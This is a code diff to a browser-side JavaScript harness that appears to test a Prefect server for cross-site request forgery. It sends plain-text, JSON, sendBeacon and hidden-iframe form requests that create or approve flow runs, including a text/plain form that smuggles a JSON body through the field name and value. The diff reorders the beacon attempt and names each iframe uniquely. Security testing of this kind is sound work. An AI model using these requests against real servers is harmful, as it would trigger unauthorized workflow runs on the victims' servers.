@@ -32,18 +32,19 @@ ATTACKS = """
   await attempt('plain text', () => send(approve('plain text'), '{"run_input": {}}'))
   await attempt('no content type', () => send(create, named('no content type')))
   await attempt('json', () => send(create, JSON.stringify({name: 'json'}), json))
-  await attempt('beacon', async () => navigator.sendBeacon(create, named('beacon')))
   await attempt('form', () => within(30, done => {
     const frame = document.createElement('iframe')
-    frame.name = 'hidden'
+    frame.name = `hidden ${document.querySelectorAll('iframe').length}`
     document.body.appendChild(frame)
     frame.onload = () => done('sent')
     const form = document.body.appendChild(document.createElement('form'))
-    Object.assign(form, {method: 'post', action: approve('form'), enctype: 'text/plain', target: 'hidden'})
+    Object.assign(form, {method: 'post', action: approve('form'), enctype: 'text/plain', target: frame.name})
     const field = form.appendChild(document.createElement('input'))
     Object.assign(field, {name: '{"run_input": {"x": "', value: '"}}'})
     form.submit()
   }))
+  // The last change, since it is not waited for, and Prefect refuses one of two changes at once.
+  await attempt('beacon', async () => navigator.sendBeacon(create, named('beacon')))
 
   await attempt('reading runs', async () =>
     (await (await fetch(`${target}/api/flow_runs/filter`, {method: 'POST', body: '{}', ...json})).json()).length >= 0
